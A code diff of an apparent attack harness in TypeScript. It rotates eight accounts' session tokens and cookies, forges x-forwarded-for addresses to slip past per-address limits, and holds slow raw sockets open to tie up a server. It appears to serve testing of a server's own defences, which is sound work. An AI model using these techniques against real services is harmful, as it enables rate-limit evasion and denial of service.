@@ -3,7 +3,13 @@ import { connect, type Socket } from 'node:net';
 /** What an attacker has: the server, and the sessions of eight accounts. */
 export interface Target {
   url: string;
-  tokens: string[];
+  sessions: Signed[];
+}
+
+/** A session, in both forms in which the server takes it. */
+export interface Signed {
+  token: string;
+  cookie: string;
 }
 
 export interface Attack {
@@ -92,8 +98,9 @@ export const attacks: Attack[] = [
 const json = (body: object) => JSON.stringify(body);
 
 /** Headers of the n-th request: each from another address, which the server believes of its proxy. */
-const headersOf = ({ tokens }: Target, n: number) => ({
-  authorization: `Bearer ${tokens[n % tokens.length]}`,
+const headersOf = ({ sessions }: Target, n: number) => ({
+  authorization: `Bearer ${sessions[n % sessions.length]!.token}`,
+  cookie: sessions[n % sessions.length]!.cookie,
   'x-forwarded-for': `198.${18 + (n % 2)}.${(n >> 9) % 256}.${(n >> 1) % 256}`,
 });
 
@@ -111,19 +118,19 @@ async function get(target: Target, path: string, n: number) {
 }
 
 /** Asks, and reads nothing of the answer. */
-const slowSocket = ({ url, tokens }: Target, path: string, n: number) =>
+const slowSocket = (target: Target, path: string, n: number) =>
   new Promise<string>((done) => {
-    const { hostname, port } = new URL(url);
+    const { hostname, port } = new URL(target.url);
     const socket: Socket = connect(Number(port), hostname);
     const end = (outcome: string) => {
       socket.destroy();
       done(outcome);
     };
-    const { authorization, 'x-forwarded-for': from } = headersOf({ url, tokens }, n);
+    const { authorization, cookie, 'x-forwarded-for': from } = headersOf(target, n);
     socket.pause();
     socket.write(
-      `GET ${path} HTTP/1.1\r\nhost: x\r\naccept: text/html\r\nauthorization: ${authorization}\r\nx-forwarded-for: ${from}\r\n\r\n`,
+      `GET ${path} HTTP/1.1\r\nhost: x\r\naccept: text/html\r\nauthorization: ${authorization}\r\ncookie: ${cookie}\r\nx-forwarded-for: ${from}\r\n\r\n`,
     );
     socket.once('error', () => end('cut off')).once('close', () => end('cut off'));
-    setTimeout(() => end('kept open'), SLOW_SOCKET_MS).unref();
+    setTimeout(() => end('kept open'), SLOW_SOCKET_MS);
   });
